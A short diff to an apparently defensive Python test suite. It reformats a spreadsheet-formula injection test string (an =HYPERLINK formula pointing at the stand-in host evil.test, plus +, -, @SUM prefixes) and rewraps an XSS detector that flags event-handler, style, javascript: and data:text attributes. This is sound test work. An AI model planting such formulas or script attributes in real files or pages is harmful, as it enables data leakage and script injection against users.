@@ -30,7 +30,7 @@ TEXTS = {
     "surrogates": f"{MARK}\U0001f469\u200d\U0001f52c\U000e0041\ufffe",
     "combining": MARK + "Z̴̢" * 60,
     "long": f"{MARK}" + "长" * 100_000,
-    "formula": f"=HYPERLINK(\"http://evil.test/{MARK}\",\"x\")",
+    "formula": f'=HYPERLINK("http://evil.test/{MARK}","x")',
     "plus": f"+{MARK}+1",
     "minus": f"-{MARK}-1",
     "at": f"@SUM({MARK})",
@@ -59,7 +59,9 @@ def runs(page: str) -> str:
         for name, value in held.items():
             if name.startswith("on") or name == "style":
                 return f"{one.tag} {name}={value:.80}"
-            if name in ("href", "src", "action", "formaction") and value.strip().lower().startswith(("javascript:", "data:text")):
+            if name in ("href", "src", "action", "formaction") and value.strip().lower().startswith(
+                ("javascript:", "data:text")
+            ):
                 return f"{one.tag} {name}={value:.80}"
         if one.tag == "svg" and any("onload" in name for name in held):
             return "svg"
